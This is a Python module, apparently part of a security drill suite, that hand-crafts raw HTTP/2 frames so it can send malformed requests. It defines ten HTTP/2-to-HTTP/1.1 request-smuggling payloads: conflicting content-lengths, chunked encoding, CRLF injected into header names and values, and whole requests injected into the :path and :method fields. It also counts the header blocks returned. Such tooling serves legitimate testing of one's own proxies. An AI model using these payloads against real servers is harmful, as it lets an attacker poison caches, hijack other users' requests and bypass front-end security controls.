"""Frames of HTTP/2 written by hand, because libraries refuse to send malformed ones."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass

from deploy.drills.smuggled import INNER, filled

Fields = list[tuple[bytes, bytes]]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 1, 4


@dataclass(frozen=True)
class Attack:
    """An HTTP/2 request whose text may end up as part of the HTTP/1.1 request made from it.

    OUTER, INNER and HOST are placeholders as in smuggled.py; `changed` replaces the headers of the
    same names in START.
    """

    changed: Fields
    body: bytes = INNER

    def bytes_of(self, outer: str, inner: str, host: str) -> bytes:
        def fill(text: bytes) -> bytes:
            return filled(text, outer, inner, host)

        names = {name for name, _ in self.changed}
        kept = [(name, value) for name, value in START if name not in names]
        # Names with a colon must come first.
        fields = sorted([*kept, *self.changed], key=lambda field: not field[0].startswith(b":"))
        return request([(fill(name), fill(value)) for name, value in fields], fill(self.body))


START: Fields = [
    (b":method", b"POST"),
    (b":scheme", b"https"),
    (b":authority", b"HOST"),
    (b":path", b"/partner/get-redirect-url"),
    (b"x-request-id", b"OUTER"),
]
_CHUNKED = b"0\r\n\r\n" + INNER
_REQUEST = b"/.well-known/security.txt HTTP/1.1\r\nHost: HOST\r\n\r\n" + INNER
ATTACKS = {
    "a length of 0 and a body": Attack([(b"content-length", b"0")]),
    "a length beyond the body": Attack([(b"content-length", b"900")]),
    "two lengths": Attack([(b"content-length", b"0"), (b"content-length", b"90")]),
    "chunked": Attack([(b"transfer-encoding", b"chunked")], _CHUNKED),
    "chunked in a value": Attack([(b"x", b"y\r\ntransfer-encoding: chunked")], _CHUNKED),
    "a request in a value": Attack([(b"x", b"y\r\n\r\n" + INNER)], b""),
    "a header in a name": Attack([(b"x: y\r\ntransfer-encoding", b"chunked")], _CHUNKED),
    "a request in the path": Attack([(b":path", _REQUEST)], b""),
    "a request in the method": Attack([(b":method", b"GET " + _REQUEST)], b""),
    "a header of the connection": Attack([(b"connection", b"content-length")]),
}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _literal(text: bytes) -> bytes:
    """Return an uncompressed HPACK string."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, size = len(text) - 127, bytearray([127])
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes(size) + bytes([rest]) + text


def request(fields: Fields, body: bytes) -> bytes:
    """Return a connection's first bytes, with one request."""
    block = b"".join(b"\0" + _literal(name) + _literal(value) for name, value in fields)
    last = 0 if body else END_STREAM
    frames = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS | last, 1, block)
    return frames + (frame(DATA, END_STREAM, 1, body) if body else b"")


def frames(received: bytes) -> Iterator[tuple[int, int]]:
    """Yield the kind and stream of each complete frame."""
    while len(received) >= 9:
        size = int.from_bytes(received[:3], "big")
        if len(received) < 9 + size:
            return
        yield received[3], int.from_bytes(received[5:9], "big")
        received = received[9 + size :]


def answers(received: bytes) -> int:
    """Count the header blocks received on any stream."""
    return sum(kind == HEADERS for kind, _ in frames(received))
